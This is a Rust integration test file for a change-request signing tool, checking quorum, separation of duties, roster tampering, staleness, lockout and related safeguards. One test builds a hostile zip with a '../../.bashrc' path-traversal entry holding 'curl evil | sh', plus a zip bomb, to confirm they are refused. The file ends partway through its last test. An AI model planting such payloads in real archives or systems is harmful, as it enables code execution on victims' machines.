//! The policy closing the loop against the sandbox forge: quorum and order,
//! separation of duties, the base-branch roster, staleness, records kept in
//! the ref and the comment, a bad policy and hostile evidence — each judged by
//! the same evaluation the status and the gate use.

use std::io::Write;
use std::sync::Arc;

use countersign_api::contract::{
    DevicePollState, Meaning, RiskClass, SeenContent, SignRequest, SignatureDraft, Standing,
    Verdict,
};
use countersign_api::signatures::KeychainSource;
use countersign_api::ErrorCode;
use countersign_api::{ForgeTarget, LocalStores, Session};
use countersign_forge_sandbox::{RunningSandbox, Seed};
use countersign_keychain::MemoryStore;
use countersign_secret::Secret;
use url::Url;

mod kit;
use kit::*;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn quorum_in_order_turns_the_status_green_and_the_gate_agrees() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    let carol = device(&sandbox, "carol-clinical", "Dr. Carol Weiss").await;

    // Clinical safety signs before QA: recorded, not counted. The app refuses
    // to make such a record (issue 12 §2); a modified app could.
    carol
        .sign_past_the_checks(
            &sandbox,
            42,
            "clinical-safety",
            Meaning::Responsibility,
            |p| p.replace("order = [\"qa\", \"clinical-safety\"]\n", ""),
        )
        .await;
    let g = gate(&sandbox, 42).await;
    assert!(!g.approved);
    assert_eq!(g.review.status_line, "0/2 — waiting for QA");
    assert_eq!(g.review.signatures[0].standing, Standing::Refused);
    assert!(g.review.signatures[0]
        .why
        .as_deref()
        .unwrap()
        .contains("order"));

    bob.sign(&sandbox, 42, "qa", Meaning::Approval).await;
    assert_eq!(
        status_of(&sandbox, 42),
        ("pending".into(), "1/2 — waiting for Clinical Safety".into())
    );

    carol
        .sign(&sandbox, 42, "clinical-safety", Meaning::Responsibility)
        .await;
    let (state, text) = status_of(&sandbox, 42);
    assert_eq!(state, "success");
    assert_eq!(
        text,
        "Approved 2/2 (safety-critical dosing code): Bob Okafor, Dr. Carol Weiss"
    );
    let g = gate(&sandbox, 42).await;
    assert!(g.approved, "{:?}", g.review);
    assert_eq!(g.records_from, "ref");
    assert_eq!(g.records, 3);
    assert_eq!(g.review.risk_class, RiskClass::High);
    assert_eq!(g.review.verdict, Verdict::Approved);
    // Exactly one comment and one ref for the change request.
    let store = sandbox.store();
    let st = store.read().unwrap();
    assert_eq!(
        st.repos[0]
            .comments
            .iter()
            .filter(|c| c.issue == 42)
            .count(),
        1,
        "one comment per change request, kept current by each signer"
    );
    assert!(st.repos[0].git.refs.contains_key("refs/countersign/pr-42"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_signature_binds_the_evidence_the_policy_and_the_assessment() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    let review = bob.session.review_change_request(cr(42)).await.unwrap();
    assert_eq!(review.my_roles, ["qa"]);
    assert_eq!(
        review.tests.as_ref().map(|t| (t.passed, t.failed)),
        Some((4, 0))
    );
    assert_eq!(review.coverage_percent, Some(87.0));
    let names: Vec<&str> = review.evidence.iter().map(|e| e.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "test-reports.zip/coverage/lcov.info",
            "test-reports.zip/junit.xml"
        ]
    );
    // Each file says the workflow run it came from.
    assert_eq!(
        review.evidence[0].source.as_deref(),
        Some(".github/workflows/ci.yml, run 30042")
    );
    let assessment = review.assessment.clone().unwrap();
    assert_eq!(
        (
            assessment.risk_before.as_str(),
            assessment.risk_after.as_str()
        ),
        ("unacceptable", "acceptable")
    );

    bob.sign(&sandbox, 42, "qa", Meaning::Approval).await;
    let records = statements_in_ref(&sandbox, 42);
    let statement = &records[0];
    assert_eq!(
        statement["predicate"]["policy_digest"],
        review.policy.digest.clone().unwrap()
    );
    assert_eq!(
        statement["predicate"]["risk_assessment_digest"],
        assessment.digest
    );
    let subjects: Vec<String> = statement["subject"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap().to_owned())
        .collect();
    assert!(
        subjects.contains(&"evidence/test-reports.zip/junit.xml".to_owned()),
        "{subjects:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_author_cannot_approve_their_own_change() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    // Alice is in the QA role, and she wrote #43.
    let alice = device(&sandbox, "alice-dev", "Alice Martin").await;
    // The app will not make the record…
    let refused = alice
        .preview_refused(&sandbox, draft(43, "qa", Meaning::Approval))
        .await;
    assert!(
        refused
            .message
            .contains("contributed to this change (opened it)"),
        "{refused:?}"
    );
    // …and the gate refuses one that a modified app made.
    alice
        .sign_past_the_checks(&sandbox, 43, "qa", Meaning::Approval, |base| {
            base.replace("author_cannot_sign = true", "author_cannot_sign = false")
        })
        .await;
    let g = gate(&sandbox, 43).await;
    assert!(!g.approved);
    let s = &g.review.signatures[0];
    assert_eq!(s.standing, Standing::Refused);
    assert!(
        s.why
            .as_deref()
            .unwrap()
            .contains("contributed to this change (opened it)"),
        "{s:?}"
    );
    // The status the modified app set says "Approved"; statuses are anyone's
    // to set, which is why branch protection requires the gate, not them.
    assert_eq!(status_of(&sandbox, 43).0, "success");
    assert_eq!(g.review.status_line, "0/1 — waiting for QA");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_signer_the_change_adds_to_the_roster_gains_nothing() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let mallory = device(&sandbox, "outside-contributor", "Mallory Example").await;
    // Mallory's key, as her enrolment recorded it.
    let key = sandbox.store().read().unwrap().repos[0]
        .roster_keys
        .iter()
        .find(|k| k.user_id == 5099)
        .unwrap()
        .public_key
        .clone();
    // #43 now also edits the policy: Mallory joins QA, with her key.
    {
        let store = sandbox.store();
        let mut st = store.write().unwrap();
        let base =
            String::from_utf8(st.repos[0].base_files[".countersign/policy.toml"].clone()).unwrap();
        let edited = base.replacen(
            "name = \"qa\"\ndescription = \"QA\"\n",
            &format!("name = \"qa\"\ndescription = \"QA\"\n[[roles.members]]\nforge = \"127.0.0.1\"\nuser_id = 5099\nlogin = \"outside-contributor\"\nprinted_name = \"Mallory Example\"\n[[roles.members.keys]]\npublic_key = \"{key}\"\n"),
            1,
        );
        assert_ne!(base, edited);
        let pr = st.repos[0]
            .pulls
            .iter_mut()
            .find(|p| p.number == 43)
            .unwrap();
        pr.files.push(countersign_forge_sandbox::FileChange {
            path: ".countersign/policy.toml".into(),
            previous_path: None,
            old: Some(base),
            new: Some(edited),
        });
    }
    // The app reads the base roster and will not sign for her…
    let refused = mallory
        .preview_refused(&sandbox, draft(43, "qa", Meaning::Approval))
        .await;
    assert_eq!(
        refused.code,
        ErrorCode::SigningRefusedByPolicy,
        "{refused:?}"
    );
    // …and the gate gives a record a modified app made nothing either.
    mallory
        .sign_past_the_checks(&sandbox, 43, "qa", Meaning::Approval, |base| {
            base.replacen(
                "name = \"qa\"\ndescription = \"QA\"\n",
                &format!("name = \"qa\"\ndescription = \"QA\"\n[[roles.members]]\nforge = \"127.0.0.1\"\nuser_id = 5099\nlogin = \"outside-contributor\"\nprinted_name = \"Mallory Example\"\n[[roles.members.keys]]\npublic_key = \"{key}\"\n"),
                1,
            )
        })
        .await;
    let g = gate(&sandbox, 43).await;
    assert!(!g.approved);
    assert_eq!(g.review.signatures[0].standing, Standing::Refused);
    assert!(g.review.signatures[0]
        .why
        .as_deref()
        .unwrap()
        .contains("not among the trusted keys"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_new_commit_makes_the_approval_stale() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    bob.sign(&sandbox, 43, "qa", Meaning::Approval).await;
    assert!(gate(&sandbox, 43).await.approved);
    assert_eq!(status_of(&sandbox, 43).0, "success");
    // A new commit lands: same diff, new head, CI re-runs with the same reports.
    {
        let store = sandbox.store();
        let mut st = store.write().unwrap();
        let repo = &mut st.repos[0];
        let new_head = "c".repeat(40);
        let pr = repo.pulls.iter_mut().find(|p| p.number == 43).unwrap();
        let old_head = std::mem::replace(&mut pr.head_sha, new_head.clone());
        for run in repo
            .workflow_runs
            .iter_mut()
            .filter(|r| r.head_sha == old_head)
        {
            run.head_sha = new_head.clone();
        }
    }
    let g = gate(&sandbox, 43).await;
    assert!(!g.approved);
    assert_eq!(
        standing(&g.review),
        [("Bob Okafor".to_owned(), Standing::Stale)]
    );
    assert!(g.review.signatures[0]
        .why
        .as_deref()
        .unwrap()
        .contains("signed commit"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn records_survive_edits_and_deletion_but_an_edited_envelope_fails() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    bob.sign(&sandbox, 43, "qa", Meaning::Approval).await;
    let refs = sandbox.store().read().unwrap().repos[0].git.refs.clone();

    // Without the ref, the comment carries the records, even edited around them.
    {
        let store = sandbox.store();
        let mut st = store.write().unwrap();
        st.repos[0].git.refs.clear();
        let c = st.repos[0]
            .comments
            .iter_mut()
            .find(|c| c.issue == 43)
            .unwrap();
        c.body = format!(
            "Edited by a maintainer: see the audit.\n\n{}\nThanks!",
            c.body
        );
    }
    let g = gate(&sandbox, 43).await;
    assert_eq!(g.records_from, "comment");
    assert!(g.approved, "{:?}", g.review.signatures);

    // An envelope edited inside the comment no longer verifies.
    {
        let store = sandbox.store();
        let mut st = store.write().unwrap();
        let c = st.repos[0]
            .comments
            .iter_mut()
            .find(|c| c.issue == 43)
            .unwrap();
        let at = c.body.find("\"sig\": \"").unwrap() + 8;
        let mut bytes = c.body.clone().into_bytes();
        bytes[at] = if bytes[at] == b'A' { b'B' } else { b'A' };
        c.body = String::from_utf8(bytes).unwrap();
    }
    let g = gate(&sandbox, 43).await;
    assert!(!g.approved);
    assert_eq!(g.review.verdict, Verdict::Failed);
    assert!(
        g.review
            .status_line
            .starts_with("A record fails verification"),
        "{}",
        g.review.status_line
    );

    // The comment deleted, the ref back: the records are in the ref, but the
    // two places disagree and the gate fails closed (issue 12 §4) until a
    // push writes the comment again from the ref.
    {
        let store = sandbox.store();
        let mut st = store.write().unwrap();
        st.repos[0].comments.retain(|c| c.issue != 43);
        st.repos[0].git.refs = refs;
    }
    let g = gate(&sandbox, 43).await;
    assert_eq!(g.records_from, "ref");
    assert!(!g.approved);
    assert_eq!(g.disagreements, ["the records comment is missing"]);
    become_(&sandbox, bob.login);
    let pushed = bob.session.push_change(cr(43)).await.unwrap();
    assert_eq!(pushed.failed, 0, "{:?}", pushed.errors);
    let g = gate(&sandbox, 43).await;
    assert!(g.approved, "{:?}", g.review);
    assert!(g.disagreements.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bad_policy_blocks_with_its_line_and_column() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    {
        let store = sandbox.store();
        let mut st = store.write().unwrap();
        let policy = st.repos[0]
            .base_files
            .get_mut(".countersign/policy.toml")
            .unwrap();
        let text = String::from_utf8(policy.clone())
            .unwrap()
            .replace("min_coverage = 80.0", "min_coverage = 180.0");
        *policy = text.into_bytes();
    }
    bob.sign(&sandbox, 43, "qa", Meaning::Approval).await;
    let review = bob.session.review_change_request(cr(43)).await.unwrap();
    assert_eq!(review.verdict, Verdict::Blocked);
    let error = review.policy.error.clone().unwrap();
    assert!(
        error.contains("line") && error.contains("column"),
        "{error}"
    );
    let (state, text) = status_of(&sandbox, 43);
    assert_eq!(state, "failure");
    assert!(
        text.starts_with("Blocked by policy: policy.toml line"),
        "{text}"
    );
    assert!(!gate(&sandbox, 43).await.approved);
}

fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, data) in entries {
        w.start_file(*name, zip::write::SimpleFileOptions::default())
            .unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_evidence_archives_are_refused_and_block_the_change() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    let zeros = vec![0u8; 8 * 1024 * 1024];
    for (zip, expect) in [
        (
            zip_of(&[
                ("junit.xml", b"<testsuites/>"),
                ("../../.bashrc", b"curl evil | sh"),
            ]),
            "escapes the archive",
        ),
        (zip_of(&[("junit.xml", &zeros)]), "zip bomb"),
    ] {
        {
            let store = sandbox.store();
            let mut st = store.write().unwrap();
            st.repos[0]
                .workflow_runs
                .iter_mut()
                .find(|r| r.id == 30_043)
                .unwrap()
                .artifacts[0]
                .zip = zip;
        }
        become_(&sandbox, "bob-qa");
        let review = bob.session.review_change_request(cr(43)).await.unwrap();
        assert_eq!(review.verdict, Verdict::Blocked, "{review:?}");
        assert_eq!(review.evidence_problems.len(), 1);
        let problem = &review.evidence_problems[0];
        assert!(
            problem.contains("test-reports.zip") && problem.contains(expect),
            "{problem}"
        );
        assert!(
            review.evidence.is_empty(),
            "nothing from a refused archive is used"
        );
        // Nor can it be signed, silently leaving the refused files out.
        let refused = bob
            .preview_refused(&sandbox, draft(43, "qa", Meaning::Approval))
            .await;
        assert_eq!(
            refused.code,
            ErrorCode::SigningEvidenceRefused,
            "{refused:?}"
        );
        assert!(refused.message.contains(expect), "{refused:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_administrator_adds_a_signer_and_proposes_the_policy_for_review() {
    use countersign_api::contract::{AddSigner, PolicyText, ProposePolicy, RepoRef};
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let dan = device(&sandbox, "dan-release", "Dan Ito").await;
    let draft = dan
        .session
        .admin_policy(RepoRef { repo: REPO.into() })
        .await
        .unwrap();
    assert_eq!(draft.base_branch, "main");
    assert!(draft.check.problem.is_none());
    let qa = draft.check.roles.iter().find(|r| r.name == "qa").unwrap();
    assert_eq!(qa.members.len(), 2);

    // Erin's exported enrolment record, pasted by the administrator.
    let key = countersign_signing::keys::SignerKey::from_test_seed([9; 32]).public();
    let record = serde_json::json!({
        "printed_name": "Erin Novak",
        "forge": {"host": "127.0.0.1", "user_id": 5010, "login": "erin-qa"},
        "public_key": key.to_base64(),
        "key_id": key.key_id(),
        "fingerprint": key.fingerprint(),
        "valid_from": "2026-11-26T09:00:00Z",
        "acknowledgement": "…"
    })
    .to_string();
    let added = dan
        .session
        .add_signer(AddSigner {
            text: draft.check.text.clone(),
            role: "qa".into(),
            record_json: record.clone(),
        })
        .await
        .unwrap();
    assert!(added.problem.is_none());
    let qa = added.roles.iter().find(|r| r.name == "qa").unwrap();
    assert!(qa.members.iter().any(|m| m.user_id == 5010 && m.keys == 1));
    let again = dan
        .session
        .add_signer(AddSigner {
            text: added.text.clone(),
            role: "qa".into(),
            record_json: record,
        })
        .await;
    assert_eq!(again.unwrap_err().code, "admin.already_in_role");

    // A broken edit is shown with its place and never proposed.
    let broken = added.text.replace("version = 1", "version = \"one\"");
    let checked = dan
        .session
        .check_policy(PolicyText {
            text: broken.clone(),
        })
        .await
        .unwrap();
    let problem = checked.problem.unwrap();
    assert_eq!(problem.line, 2, "{problem:?}");
    let refused = dan
        .session
        .propose_policy(ProposePolicy {
            repo: REPO.into(),
            text: broken,
            reason: "typo".into(),
        })
        .await
        .unwrap_err();
    assert_eq!(refused.code, "policy.invalid");

    become_(&sandbox, "dan-release");
    let proposed = dan
        .session
        .propose_policy(ProposePolicy {
            repo: REPO.into(),
            text: added.text.clone(),
            reason: "Erin joins QA after training record TR-311".into(),
        })
        .await
        .unwrap();
    // The proposal is an ordinary change request, governed by the policy now on main.
    let review = dan
        .session
        .review_change_request(cr(proposed.number))
        .await
        .unwrap();
    assert_eq!(review.verdict, Verdict::Pending);
    assert_eq!(
        review.policy.digest, draft.digest,
        "judged by the base policy, not the proposed one"
    );
    {
        let store = sandbox.store();
        let st = store.read().unwrap();
        let pr = st.repos[0].pull(u64::from(proposed.number)).unwrap();
        assert_eq!(pr.files.len(), 1);
        assert_eq!(pr.files[0].new.as_deref(), Some(added.text.as_str()));
        assert_eq!(pr.author, "dan-release");
    }
    let trail = dan
        .session
        .audit_trail(countersign_api::contract::AuditFilter::default())
        .await
        .unwrap();
    assert!(
        trail.rows.iter().any(|r| r.kind == "settings_change"
            && r.reason.as_deref() == Some("Erin joins QA after training record TR-311")),
        "{:?}",
        trail.rows
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_governing_policy_sets_the_lockout() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    // After the enrolment, which rewrites the sandbox roster.
    {
        let store = sandbox.store();
        let mut st = store.write().unwrap();
        let policy = st.repos[0]
            .base_files
            .get_mut(".countersign/policy.toml")
            .unwrap();
        let text = String::from_utf8(policy.clone()).unwrap().replacen(
            "version = 1\n",
            "version = 1\n[session]\nidle_timeout_minutes = 5\nmax_failures = 2\nlockout_minutes = 30\n",
            1,
        );
        *policy = text.into_bytes();
    }
    let draft = SignatureDraft {
        change_request: cr(43),
        meaning: Meaning::Approval,
        reason: "r".into(),
        role: "qa".into(),
        use_security_key: false,
        security_key_id: None,
        withdraws: None,
    };
    let preview = bob.session.preview_signature(draft.clone()).await.unwrap();
    let attempt = || SignRequest {
        snapshot_id: preview.snapshot_id.clone(),
        draft: draft.clone(),
        seen: SeenContent {
            head_sha: preview.head_sha.clone(),
            diff_sha256: preview.diff_sha256.clone(),
        },
        password: Secret::from("not the password at all"),
        security_key_pin: None,
    };
    let first = bob
        .session
        .sign_change_request(attempt())
        .await
        .unwrap_err();
    assert_eq!(first.code, "signing.bad_password");
    // The policy allows two failures, not the default three.
    let second = bob
        .session
        .sign_change_request(attempt())
        .await
        .unwrap_err();
    assert_eq!(second.code, "signing.locked_out", "{second:?}");
    let status = bob.session.signer_status().await.unwrap();
    let until = chrono::DateTime::parse_from_rfc3339(&status.locked_until.unwrap()).unwrap();
    let minutes = (until.with_timezone(&chrono::Utc) - chrono::Utc::now()).num_minutes();
    assert!((28..=30).contains(&minutes), "locked for {minutes} min");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn settings_and_the_device_flow_keep_the_token_in_the_keychain_only() {
    use countersign_api::contract::{DeviceFlowRequest, TokenRequest};
    use countersign_api::settings::ForgeSettings;
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let keychain = MemoryStore::default();
    let dir = std::env::temp_dir().join(format!("countersign-settings-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let local = || LocalStores {
        keychain: KeychainSource::Given(Arc::new(keychain.clone())),
        ledger: dir.join("ledger.sqlite"),
        http_cache_on_disk: false,
    };
    let api_base = Url::parse(&sandbox.api_base()).unwrap();
    let s = Session::start_with(
        ForgeTarget::Sandbox {
            api_base: api_base.clone(),
        },
        local(),
    )
    .await
    .unwrap();
    assert_eq!(
        s.settings().await.unwrap().settings.kind,
        countersign_api::settings::ForgeKind::Sandbox
    );

    let mut wanted = ForgeSettings {
        kind: countersign_api::settings::ForgeKind::GitHub,
        api_url: sandbox.api_base(),
        web_url: sandbox.api_base(),
        oauth_client_id: "Iv1.countersign-test".into(),
        repos: vec!["acme-medical/../etc".into()],
        notifications: true,
    };
    assert_eq!(
        s.save_settings(wanted.clone()).await.unwrap_err().code,
        "forge.invalid_input"
    );
    wanted.repos = vec![REPO.into()];
    let view = s.save_settings(wanted.clone()).await.unwrap();
    assert!(!view.token_stored);

    // A wrong token is refused by the forge and never stored.
    let refused = s
        .store_token(TokenRequest {
            kind: countersign_api::settings::ForgeKind::GitHub,
            api_url: sandbox.api_base(),
            token: Secret::from("ghp_wrong"),
        })
        .await
        .unwrap_err();
    assert_eq!(refused.code, "forge.unauthorized");
    assert!(!s.settings().await.unwrap().token_stored);

    // The device flow: a user code for the person, polling until they approve.
    let start = s
        .start_device_flow(DeviceFlowRequest {
            kind: countersign_api::settings::ForgeKind::GitHub,
            web_url: sandbox.api_base(),
            api_url: sandbox.api_base(),
            client_id: wanted.oauth_client_id.clone(),
        })
        .await
        .unwrap();
    assert!(start.user_code.starts_with("CSGN-"));
    assert_eq!(
        s.poll_device_flow().await.unwrap().state,
        DevicePollState::Pending
    );
    let approved = reqwest::Client::new()
        .post(format!("{}login/device", sandbox.api_base()))
        .form(&[("user_code", start.user_code.as_str())])
        .send()
        .await
        .unwrap();
    assert!(approved.status().is_success());
    let done = s.poll_device_flow().await.unwrap();
    assert_eq!(done.state, DevicePollState::Approved);
    assert_eq!(done.person.unwrap().id, 5002);
    assert!(s.settings().await.unwrap().token_stored);

    // The saved settings and the kept token start a real GitHub-client session.
    let target = Session::target_from_settings(&dir, &keychain).unwrap();
    let github = Session::start_with(target, local()).await.unwrap();
    assert!(!github.app_info().await.unwrap().sandbox);
    assert_eq!(github.load_queue().await.unwrap().items.len(), 4);
    let settings_file = std::fs::read_to_string(dir.join("settings.json")).unwrap();
    assert!(!settings_file.contains("sandbox-token"), "{settings_file}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_was_synced_reads_offline_and_what_was_not_says_so() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    let outcome = bob.session.sync_offline().await.unwrap();
    assert_eq!(outcome.change_requests, 4, "{:?}", outcome.problems);
    // A pull request that appears after the sync was never kept.
    {
        let store = sandbox.store();
        let mut st = store.write().unwrap();
        let mut extra = st.repos[0].pull(44).unwrap().clone();
        extra.number = 47;
        st.repos[0].pulls.push(extra);
    }
    sandbox.stop();

    let queue = bob.session.load_queue().await.unwrap();
    assert!(queue.offline);
    assert_eq!(queue.synced_at, outcome.synced_at);
    assert_eq!(queue.items.len(), 4);
    let detail = bob.session.open_change_request(cr(42)).await.unwrap();
    assert!(detail.offline);
    assert!(detail
        .diff
        .contains("+pub const MAX_RATE_ML_H: f64 = 1200.0;"));
    let review = bob.session.review_change_request(cr(42)).await.unwrap();
    assert!(review.offline);
    assert_eq!(review.risk_class, RiskClass::High);
    assert!(review.assessment.is_some());
    assert_eq!(review.tests.as_ref().map(|t| t.passed), Some(4));

    let kinds: Vec<String> = bob
        .session
        .audit_trail(countersign_api::contract::AuditFilter::default())
        .await
        .unwrap()
        .rows
        .into_iter()
        .map(|r| r.kind)
        .collect();
    assert!(kinds.contains(&"sync".to_owned()), "{kinds:?}");
    assert_eq!(
        kinds.iter().filter(|k| *k == "policy_seen").count(),
        1,
        "one policy version, recorded once: {kinds:?}"
    );

    let never = bob.session.open_change_request(cr(47)).await.unwrap_err();
    assert_eq!(never.code, "forge.unreachable");
    assert!(
        never.message.contains("never synced on this device"),
        "{}",
        never.message
    );
}

/// The software authenticator standing in for a USB security key.
struct SoftKey(
    std::sync::Mutex<webauthn_authenticator_rs::softpasskey::SoftPasskey>,
    bool,
);

impl countersign_api::security_key::SecurityKeyDevice for SoftKey {
    fn register(
        &self,
        options: webauthn_rs::prelude::CreationChallengeResponse,
        _pin: Option<&Secret<String>>,
    ) -> Result<webauthn_rs::prelude::RegisterPublicKeyCredential, countersign_api::ApiError> {
        use webauthn_authenticator_rs::WebauthnAuthenticator;
        self.0
            .lock()
            .unwrap()
            .do_registration(countersign_api::security_key::origin(), options)
            .map_err(|e| {
                countersign_api::ApiError::new(ErrorCode::SigningSecurityKey, format!("{e:?}"))
            })
    }

    fn assert(
        &self,
        options: webauthn_rs::prelude::RequestChallengeResponse,
        pin: Option<&Secret<String>>,
    ) -> Result<webauthn_rs::prelude::PublicKeyCredential, countersign_api::ApiError> {
        use webauthn_authenticator_rs::WebauthnAuthenticator;
        // The second field: whether the PIN is accepted.
        if !self.1 || pin.is_none() {
            return Err(countersign_api::ApiError::new(
                ErrorCode::SigningSecurityKey,
                "PIN refused by the key",
            ));
        }
        self.0
            .lock()
            .unwrap()
            .do_authentication(countersign_api::security_key::origin(), options)
            .map_err(|e| {
                countersign_api::ApiError::new(ErrorCode::SigningSecurityKey, format!("{e:?}"))
            })
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_security_key_confirms_the_record_and_the_gate_checks_it() {
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    let soft = Arc::new(SoftKey(
        std::sync::Mutex::new(webauthn_authenticator_rs::softpasskey::SoftPasskey::new(
            true,
        )),
        true,
    ));
    bob.session.set_security_key_device(soft);
    become_(&sandbox, "bob-qa");
    let status = bob
        .session
        .register_security_key(countersign_api::contract::SecurityKeyRequest {
            pin: Some(Secret::from("123456")),
        })
        .await
        .unwrap();
    assert_eq!(status.security_keys, 1);

    let draft = SignatureDraft {
        change_request: cr(43),
        meaning: Meaning::Approval,
        reason: "UT-9 passed".into(),
        role: "qa".into(),
        use_security_key: true,
        security_key_id: None,
        withdraws: None,
    };
    let preview = bob.session.preview_signature(draft.clone()).await.unwrap();
    let request = |pin: Option<&str>| SignRequest {
        snapshot_id: preview.snapshot_id.clone(),
        draft: draft.clone(),
        seen: SeenContent {
            head_sha: preview.head_sha.clone(),
            diff_sha256: preview.diff_sha256.clone(),
        },
        password: Secret::from(PASSWORD),
        security_key_pin: pin.map(Secret::from),
    };
    // No PIN: the key refuses, and it counts as a failed authentication.
    let refused = bob
        .session
        .sign_change_request(request(None))
        .await
        .unwrap_err();
    assert_eq!(refused.code, "signing.security_key");
    let trail = bob
        .session
        .audit_trail(countersign_api::contract::AuditFilter {
            kind: Some("auth_failed".into()),
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(trail.rows.len(), 1);

    let signed = bob
        .session
        .sign_change_request(request(Some("123456")))
        .await
        .unwrap();
    assert!(signed.envelope_json.len() > 100);
    assert!(bob.session.push_outbox().await.unwrap().failed == 0);
    let statements = statements_in_ref(&sandbox, 43);
    assert!(
        statements[0]["predicate"]["authentication"]["fido2"]["assertion"]["signature"]
            .as_str()
            .is_some_and(|s| !s.is_empty())
    );
    let g = gate(&sandbox, 43).await;
    assert!(g.approved, "{:?}", g.review.signatures);

    // A roster without the security key does not accept the confirmation.
    {
        let store = sandbox.store();
        let mut st = store.write().unwrap();
        let repo = &mut st.repos[0];
        for k in &mut repo.roster_keys {
            k.security_keys.clear();
        }
        countersign_forge_sandbox::refresh_policy(repo);
    }
    let g = gate(&sandbox, 43).await;
    assert!(!g.approved);
    assert!(g.review.signatures[0]
        .why
        .as_deref()
        .unwrap()
        .contains("security key"));
}

/// A private D-Bus standing in for logind and the screen saver: their
/// signals end the continuous signing session, with an audit entry, and the
/// next signature needs the forge identity again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn locking_or_suspending_the_machine_ends_the_signing_session() {
    use std::io::BufRead;
    use std::process::{Command, Stdio};
    struct Daemon(std::process::Child);
    impl Drop for Daemon {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
    let mut daemon = Daemon(
        Command::new("dbus-daemon")
            .args(["--session", "--nofork", "--print-address=1"])
            .stdout(Stdio::piped())
            .spawn()
            .expect("dbus-daemon (apt: dbus-daemon)"),
    );
    let mut address = String::new();
    std::io::BufReader::new(daemon.0.stdout.take().unwrap())
        .read_line(&mut address)
        .unwrap();
    let address = address.trim().to_owned();
    let (tx, rx) = std::sync::mpsc::channel();
    let tx = std::sync::Mutex::new(tx);
    assert!(countersign_api::os_session::watch(
        countersign_api::os_session::Bus::Address(address.clone()),
        move |why| {
            let _ = tx.lock().unwrap().send(why);
        }
    ));
    // Sent from a registered connection, as logind and the screen saver do
    // (`dbus-send --address` never says Hello, and the bus drops its signals).
    let sender = {
        let mut c = dbus::channel::Channel::open_private(&address).unwrap();
        c.register().unwrap();
        c
    };
    let signal = |path: &str, member: &str, arg: Option<&str>| {
        let (interface, name) = member.rsplit_once('.').unwrap();
        let mut msg = dbus::Message::new_signal(path, interface, name).unwrap();
        if let Some(a) = arg {
            msg = msg.append1(a == "boolean:true");
        }
        sender.send(msg).unwrap();
        sender.flush();
    };
    let next = || rx.recv_timeout(std::time::Duration::from_secs(5));
    // Waking up ends nothing; going to sleep does.
    signal(
        "/org/freedesktop/login1",
        "org.freedesktop.login1.Manager.PrepareForSleep",
        Some("boolean:false"),
    );
    signal(
        "/org/freedesktop/login1",
        "org.freedesktop.login1.Manager.PrepareForSleep",
        Some("boolean:true"),
    );
    assert_eq!(next(), Ok(countersign_api::os_session::SUSPEND));
    signal(
        "/org/freedesktop/ScreenSaver",
        "org.freedesktop.ScreenSaver.ActiveChanged",
        Some("boolean:true"),
    );
    assert_eq!(next(), Ok(countersign_api::os_session::LOCKED));
    signal(
        "/org/freedesktop/login1/session/_31",
        "org.freedesktop.login1.Session.Lock",
        None,
    );
    assert_eq!(next(), Ok(countersign_api::os_session::LOCKED));
    drop(daemon);

    // What the app does with it.
    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
    bob.sign(&sandbox, 43, "qa", Meaning::Approval).await;
    bob.sign(&sandbox, 42, "qa", Meaning::Approval).await;
    bob.session
        .end_signing_sessions(countersign_api::os_session::SUSPEND)
        .unwrap();
    bob.sign(&sandbox, 44, "qa", Meaning::Approval).await;
    let rows = bob
        .session
        .audit_trail(countersign_api::contract::AuditFilter::default())
        .await
        .unwrap()
        .rows;
